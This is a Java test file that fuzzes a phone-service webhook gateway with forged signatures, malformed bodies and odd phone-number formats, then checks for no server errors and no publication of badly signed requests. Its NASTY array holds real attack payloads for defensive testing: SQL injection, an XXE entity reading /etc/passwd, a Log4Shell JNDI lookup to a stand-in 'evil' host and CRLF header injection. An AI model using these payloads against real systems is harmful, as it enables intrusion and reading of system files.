package ai.galaxyco.phone.gateway;

import static io.restassured.RestAssured.given;
import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;

import ai.galaxyco.phone.model.Topics;
import ai.galaxyco.phone.model.signature.SignalWireSignature;
import ai.galaxyco.phone.model.signature.SvixSignature;
import ai.galaxyco.phone.testsupport.KafkaKRaftResource;
import ai.galaxyco.phone.testsupport.TopicProbe;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import java.net.URI;
import java.net.URL;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/**
 * Generated hostile traffic: {@code -Dhostile.requests} (5,000 in verify, 50,000 with -Pthorough) spread over the
 * gateway's endpoints, from a seeded generator (rerun with
 * -Dhostile.seed=N to reproduce one). Half carry missing, stale or forged signatures around junk bodies; half are
 * correctly signed but carry injection strings, odd number formats, invalid UTF-8, thousands of parameters or
 * wrong content types. Expected: never a 5xx, nothing published for a bad signature, and a healthy service after.
 */
@QuarkusTest
@QuarkusTestResource(KafkaKRaftResource.class)
class HostileInputTest {

    @Test
    void theServedOpenApiDocumentIsTheCommittedOne() throws Exception {
        ai.galaxyco.phone.testsupport.OpenApiContract.assertServedEqualsCommitted(operations);
    }

    /** Issue 33: an endpoint that states no guard is refused (deny-unannotated-endpoints), not open to anyone. */
    @Test
    void anEndpointThatStatesNoGuardIsRefused() {
        int status = io.restassured.RestAssured.given().get("/test-only/unguarded").then().extract().statusCode();
        org.junit.jupiter.api.Assertions.assertTrue(status == 401 || status == 403, "answered " + status);
    }

    /** Issue 33: U+0000 in any parameter or JSON body of any documented endpoint is a 400, never a 500. */
    @Test
    void aNulInAnyParameterOrBodyOfEveryDocumentedEndpointIsRefusedWith400() throws Exception {
        ai.galaxyco.phone.testsupport.NulProbe.assertRefusedByTheServiceUnderTest();
    }

    static final String KEY = "PSK_test_signing_key";
    static final String CLERK_SECRET = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    static final String PUBLIC = "https://phone.galaxyco.test/api/webhooks/signalwire";
    static final List<String> ENDPOINTS = List.of("clerk", "sms", "voice", "voice/recording",
            "voice/dial-result", "voice/transcription", "status");
    static final int PER_ENDPOINT = Integer.getInteger("hostile.requests", 5_000) / ENDPOINTS.size();
    static final String[] NASTY = {"'; DROP TABLE message; --", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "{\"$ne\": null}", "</Response><Dial>+19005550100</Dial>", "${jndi:ldap://evil/x}", "\u0000\u0001\u0002", "😀🔥𝕏",
        "%00%0d%0aSet-Cookie: x=y", "A".repeat(5000), "\\\"\\\\", "null", "[]", "-1", "1e999", "NaN", ""};
    static final String[] ODD_NUMBERS = {"+1 (212) 555-0143", "whatsapp:+14155550100", "WhatsApp:+14155550100", "0012125550143",
        "+999999999999999999", "+", "12", "+1-800-FLOWERS", "tel:+14155550100", "+44 7911 123456", "sip:alice@example.com",
        "+1４１５５５５０１００", "  +14155550100  ", "whatsapp:", "+00000000000"};

    @TestHTTPResource("/")
    URL base;

    /** The management interface's /q/ (with the slash): health, metrics and OpenAPI live there, not on the public port. */
    @TestHTTPResource(value = "", management = true)
    URL operations;

    final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    @Test
    void noHostileRequestCausesA5xxOrAPublicationWithoutAValidSignature() throws Exception {
        long seed = Long.getLong("hostile.seed", 20261123L);
        Map<Integer, AtomicInteger> statuses = new ConcurrentHashMap<>();
        List<String> serverErrors = java.util.Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(8);
        List<Future<?>> jobs = new ArrayList<>();
        for (String endpoint : ENDPOINTS) {
            for (int worker = 0; worker < 8; worker++) {
                Random random = new Random(seed + endpoint.hashCode() * 31L + worker);
                int count = PER_ENDPOINT / 8 + (worker < PER_ENDPOINT % 8 ? 1 : 0);
                jobs.add(pool.submit(() -> {
                    for (int i = 0; i < count; i++) {
                        HttpRequest request = hostile(endpoint, random);
                        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
                        statuses.computeIfAbsent(response.statusCode(), s -> new AtomicInteger()).incrementAndGet();
                        if (response.statusCode() >= 500) {
                            serverErrors.add(endpoint + " -> " + response.statusCode() + " " + response.body());
                        }
                    }
                    return null;
                }));
            }
        }
        // positive control in the same run: well-formed, correctly signed webhooks must all get through, so a gateway
        // that refused everything would fail this test
        List<String> genuine = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            genuine.add("GENUINE" + seed + "n" + i);
        }
        jobs.add(pool.submit(() -> {
            for (String tag : genuine) {
                List<Map.Entry<String, String>> params = List.of(Map.entry("MessageSid", "SM" + tag), Map.entry("From", "+14155550100"),
                        Map.entry("To", "+12125550143"), Map.entry("Body", tag), Map.entry("NumMedia", "0"));
                HttpResponse<String> response = client.send(HttpRequest.newBuilder(URI.create(base.toString().replaceAll("/$", "")
                        + "/api/webhooks/signalwire/sms")).header("Content-Type", "application/x-www-form-urlencoded")
                        .header("X-SignalWire-Signature", SignalWireSignature.formSignature(KEY, PUBLIC + "/sms", params))
                        .POST(HttpRequest.BodyPublishers.ofString(form(params))).build(), HttpResponse.BodyHandlers.ofString());
                assertEquals(200, response.statusCode(), tag + ": " + response.body());
            }
            return null;
        }));
        for (Future<?> job : jobs) {
            job.get();
        }
        pool.shutdown();
        System.out.println("Hostile input: " + PER_ENDPOINT * ENDPOINTS.size() + " requests, statuses " + statuses);
        assertEquals(List.of(), serverErrors.stream().limit(5).toList(), "no 5xx");
        assertEquals(PER_ENDPOINT * ENDPOINTS.size(), statuses.values().stream().mapToInt(AtomicInteger::get).sum());
        try (TopicProbe probe = TopicProbe.of(Topics.INBOUND_MESSAGES)) {
            await().atMost(Duration.ofSeconds(60)).until(() -> genuine.stream().allMatch(tag ->
                    probe.records().stream().anyMatch(r -> r.value() != null && r.value().contains(tag))));
        }

        // nothing that carried a forged, stale or missing signature reached any topic
        for (var topic : List.of(Topics.WORKSPACE_LIFECYCLE, Topics.INBOUND_MESSAGES, Topics.INBOUND_CALLS, Topics.MESSAGE_STATUS,
                Topics.CALL_STATUS)) {
            try (TopicProbe probe = TopicProbe.of(topic)) {
                var records = drain(probe);
                assertTrue(records.stream().noneMatch(r -> r.value() != null && r.value().contains("FORGED")),
                        topic.name() + " holds a record from a badly signed request");
            }
        }
        given().get(operations + "health/ready").then().statusCode(200);
        given().get(operations + "health/live").then().statusCode(200);
    }

    @Test
    void operationsEndpointsAnswerOnlyOnTheManagementPort() {
        for (String path : List.of("/q/health", "/q/health/ready", "/q/metrics", "/q/openapi", "/q/swagger-ui/")) {
            given().get(path).then().statusCode(404).contentType("application/problem+json").body("code", equalTo("not_found"));
        }
        given().get("/api/webhooks/clerk").then().statusCode(405).contentType("application/problem+json")
                .body("code", equalTo("method_not_allowed"));
        given().get(operations + "health/ready").then().statusCode(200);
        given().get(operations + "metrics").then().statusCode(200).body(containsString("jvm_"));
        given().get(operations + "openapi").then().statusCode(200).body(containsString("/api/webhooks/clerk"));
        given().get(operations + "swagger-ui/").then().statusCode(200);
    }

    private static List<org.apache.kafka.clients.consumer.ConsumerRecord<String, String>> drain(TopicProbe probe) {
        List<org.apache.kafka.clients.consumer.ConsumerRecord<String, String>> all = probe.records();
        for (int i = 0; i < 10; i++) {
            int before = all.size();
            all = probe.records();
            if (all.size() == before && i > 2) {
                break;
            }
        }
        return all;
    }

    private HttpRequest hostile(String endpoint, Random random) {
        boolean forged = random.nextBoolean();
        String path = endpoint.equals("clerk") ? "/api/webhooks/clerk" : "/api/webhooks/signalwire/" + endpoint;
        HttpRequest.Builder builder = HttpRequest.newBuilder(URI.create(base.toString().replaceAll("/$", "") + path))
                .timeout(Duration.ofSeconds(30));
        if (endpoint.equals("clerk")) {
            byte[] body = clerkBody(random, forged);
            String id = "msg_" + random.nextInt(1_000_000);
            long ts = Instant.now().getEpochSecond();
            if (forged) {
                switch (random.nextInt(4)) {
                    case 0 -> { } // no signature headers at all
                    case 1 -> builder.header("svix-id", id).header("svix-timestamp", String.valueOf(ts))
                            .header("svix-signature", "v1," + base64(random, 32));
                    case 2 -> builder.header("svix-id", id).header("svix-timestamp", String.valueOf(ts - 3600))
                            .header("svix-signature", SvixSignature.sign(CLERK_SECRET, id, ts - 3600, body));
                    default -> builder.header("svix-id", id).header("svix-timestamp", junk(random, 12))
                            .header("svix-signature", junk(random, 40));
                }
            } else {
                builder.header("svix-id", id).header("svix-timestamp", String.valueOf(ts))
                        .header("svix-signature", SvixSignature.sign(CLERK_SECRET, id, ts, body));
            }
            return builder.header("Content-Type", random.nextBoolean() ? "application/json" : pick(random, "text/plain",
                    "application/xml", "multipart/form-data; boundary=x")).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build();
        }
        List<Map.Entry<String, String>> params = signalWireParams(endpoint, random, forged);
        byte[] body;
        if (random.nextInt(20) == 0) {
            body = invalidUtf8(random);
        } else if (random.nextInt(20) == 0) {
            body = truncated(form(params), random);
        } else {
            body = form(params).getBytes(StandardCharsets.UTF_8);
        }
        String contentType = random.nextInt(10) == 0 ? pick(random, "application/json", "text/plain", "application/octet-stream")
                : "application/x-www-form-urlencoded";
        if (forged) {
            switch (random.nextInt(3)) {
                case 0 -> { }
                case 1 -> builder.header("X-SignalWire-Signature", base64(random, 20));
                default -> builder.header("X-Twilio-Signature", SignalWireSignature.formSignature("wrong-key", PUBLIC + "/" + endpoint, params));
            }
        } else {
            builder.header(random.nextBoolean() ? "X-SignalWire-Signature" : "X-Twilio-Signature",
                    SignalWireSignature.formSignature(KEY, PUBLIC + "/" + endpoint, params));
        }
        return builder.header("Content-Type", contentType).POST(HttpRequest.BodyPublishers.ofByteArray(body)).build();
    }

    private static List<Map.Entry<String, String>> signalWireParams(String endpoint, Random random, boolean forged) {
        String tag = (forged ? "FORGED" : "HOSTILE") + random.nextInt(1_000_000_000);
        List<Map.Entry<String, String>> params = new ArrayList<>();
        switch (endpoint) {
            case "sms" -> {
                params.add(Map.entry("MessageSid", random.nextInt(10) == 0 ? pick(random, NASTY) : "SM" + tag));
                params.add(Map.entry("Body", tag + " " + pick(random, NASTY)));
                params.add(Map.entry("NumMedia", random.nextInt(5) == 0 ? pick(random, NASTY) : String.valueOf(random.nextInt(3))));
                params.add(Map.entry("MediaUrl0", "https://m/" + tag));
            }
            case "voice", "voice/recording", "voice/dial-result", "voice/transcription" -> {
                params.add(Map.entry("CallSid", random.nextInt(10) == 0 ? pick(random, NASTY) : "CA" + tag));
                params.add(Map.entry("CallStatus", pick(random, "ringing", "in-progress", pick(random, NASTY))));
                params.add(Map.entry("RecordingUrl", "https://rec/" + tag));
                params.add(Map.entry("RecordingDuration", random.nextBoolean() ? "12" : pick(random, NASTY)));
                params.add(Map.entry("DialCallStatus", pick(random, "no-answer", "completed", pick(random, NASTY))));
                params.add(Map.entry("DialCallDuration", random.nextBoolean() ? "30" : pick(random, NASTY)));
                params.add(Map.entry("TranscriptionText", tag + " " + pick(random, NASTY)));
                params.add(Map.entry("TranscriptionStatus", pick(random, "completed", "failed", pick(random, NASTY))));
            }
            default -> {
                if (random.nextBoolean()) {
                    params.add(Map.entry("MessageSid", "SM" + tag));
                    params.add(Map.entry("MessageStatus", pick(random, "sent", "delivered", pick(random, NASTY))));
                    params.add(Map.entry("ErrorCode", pick(random, "30003", "", pick(random, NASTY))));
                } else {
                    params.add(Map.entry("CallSid", "CA" + tag));
                    params.add(Map.entry("CallStatus", pick(random, "completed", pick(random, NASTY))));
                    params.add(Map.entry("CallDuration", random.nextBoolean() ? "42" : pick(random, NASTY)));
                }
            }
        }
        if (random.nextInt(4) != 0) {
            params.add(Map.entry("From", pick(random, ODD_NUMBERS)));
        }
        if (random.nextInt(4) != 0) {
            params.add(Map.entry("To", pick(random, ODD_NUMBERS)));
        }
        if (random.nextInt(50) == 0) {
            for (int i = 0; i < 3000; i++) { // thousands of parameters
                params.add(Map.entry("P" + i, tag));
            }
        }
        return params;
    }

    private static byte[] clerkBody(Random random, boolean forged) {
        String tag = (forged ? "FORGED" : "HOSTILE") + random.nextInt(1_000_000_000);
        String body = switch (random.nextInt(6)) {
            case 0 -> "{\"type\":\"organization.created\",\"data\":{\"id\":\"" + pick(random, NASTY).replace("\"", "") + "\",\"name\":\""
                    + tag + "\",\"public_metadata\":{\"plan\":\"" + pick(random, "pro", "PRO", "enterprise", "platinum", "") + "\"}}}";
            case 1 -> "{\"type\":\"" + pick(random, NASTY).replace("\"", "") + "\",\"data\":{\"id\":\"org_" + tag + "\"}}";
            case 2 -> "{\"type\":\"organization.updated\",\"data\":" + pick(random, "[]", "null", "42", "\"x\"") + ",\"x\":\"" + tag + "\"}";
            case 3 -> "{\"type\":\"organization.created\",\"data\":{\"id\":\"org_" + tag + "\",\"public_metadata\":{\"plan\":{\"$ne\":1}},"
                    + "\"updated_at\":\"" + pick(random, NASTY).replace("\"", "") + "\"}}";
            case 4 -> "{\"type\": \"organization.created\", " + tag; // truncated JSON
            default -> pick(random, NASTY) + tag;
        };
        return random.nextInt(15) == 0 ? invalidUtf8(random) : body.getBytes(StandardCharsets.UTF_8);
    }

    private static String form(List<Map.Entry<String, String>> params) {
        return params.stream().map(p -> URLEncoder.encode(p.getKey(), StandardCharsets.UTF_8) + "="
                + URLEncoder.encode(p.getValue(), StandardCharsets.UTF_8)).collect(Collectors.joining("&"));
    }

    private static byte[] truncated(String form, Random random) {
        byte[] bytes = form.getBytes(StandardCharsets.UTF_8);
        return java.util.Arrays.copyOf(bytes, random.nextInt(Math.max(1, bytes.length)));
    }

    private static byte[] invalidUtf8(Random random) {
        byte[] bytes = new byte[1 + random.nextInt(200)];
        random.nextBytes(bytes);
        bytes[0] = (byte) 0xC3; // a lead byte ...
        if (bytes.length > 1) {
            bytes[1] = (byte) 0x28; // ... followed by an invalid continuation
        }
        return bytes;
    }

    private static String base64(Random random, int n) {
        byte[] bytes = new byte[n];
        random.nextBytes(bytes);
        return java.util.Base64.getEncoder().encodeToString(bytes);
    }

    private static String junk(Random random, int n) {
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append((char) (33 + random.nextInt(90)));
        }
        return sb.toString();
    }

    @SafeVarargs
    private static <T> T pick(Random random, T... options) {
        return options[random.nextInt(options.length)];
    }
}
